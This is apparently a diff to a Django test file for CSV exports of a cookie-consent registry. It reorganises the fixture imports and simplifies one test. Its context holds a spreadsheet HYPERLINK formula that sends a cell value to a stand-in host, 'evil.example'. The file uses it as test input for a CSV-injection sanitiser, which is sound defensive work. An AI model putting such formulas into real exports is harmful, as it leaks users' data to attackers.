@@ -12,7 +12,7 @@ from django.urls import reverse
 
 from cookie_registry.models import CookieCategory, Provider, RegistryVersion
 from exports.csv_safety import neutralise_cell
-from tests.cookie_registry.conftest import _build_small_registry, cookie, make_category, publish
+from tests.fixtures.registry import cookie, make_category, publish
 from tests.policy_pages.conftest import publish_policy
 
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
@@ -41,14 +41,6 @@ def csv_rows(response) -> list[dict[str, str]]:
 )
 def test_neutralise_cell(value, expected):
     assert neutralise_cell(value) == expected
-
-
-@pytest.fixture
-def registry(db):
-    from cookie_registry.versioning import one_registry_change
-
-    with one_registry_change():
-        return _build_small_registry()
 
 
 def test_category_listing_csv(admin_client, registry):
@@ -113,12 +105,10 @@ def test_policy_versions_report_csv(admin_client, registry):
 
 
 def test_consent_records_csv(admin_client, registry):
-    from cookie_registry.versioning import current_registry_version
-    from tests.consent.conftest import SmallRegistry, make_record
+    from tests.consent.conftest import make_record
 
-    small = SmallRegistry(current_registry_version(), ["necessary"], ["analytics"])
-    make_record(small, "-aaaaaaaaaaaaaaaaaaa", "accept_all", 1, ["analytics"])
-    make_record(small, "bbbbbbbbbbbbbbbbbbbb", "reject_all", 1)
+    make_record(registry, "-aaaaaaaaaaaaaaaaaaa", "accept_all", 1, registry.optional_keys)
+    make_record(registry, "bbbbbbbbbbbbbbbbbbbb", "reject_all", 1)
 
     rows = csv_rows(admin_client.get("/admin/reports/consent-records/", {"export": "csv"}))
 
